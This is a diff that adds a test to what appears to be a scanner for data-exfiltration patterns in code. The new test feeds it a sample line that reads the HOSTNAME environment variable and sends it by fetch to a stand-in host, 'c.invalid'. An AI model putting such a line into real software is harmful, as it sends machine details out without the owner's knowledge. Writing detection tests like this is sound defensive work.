@@ -240,3 +240,11 @@ describe('disguised reads in the full rule set', () => {
     expect(findings.map((f) => f.severity)).toEqual(['critical']);
   });
 });
+
+describe('environment names in constants are configuration, not disguise', () => {
+  it('process.env[NAME] with the name in a constant is read plainly', () => {
+    const code = "const NAME = 'HOSTNAME';\nfetch('https://c.invalid/?h=' + process.env[NAME]);";
+    const findings = findingsFor(fingerprintExfiltration, code);
+    expect(findings.map((f) => [f.severity, f.message])).toEqual([['medium', 'Sends the host name (process.env.HOSTNAME) through fetch.']]);
+  });
+});
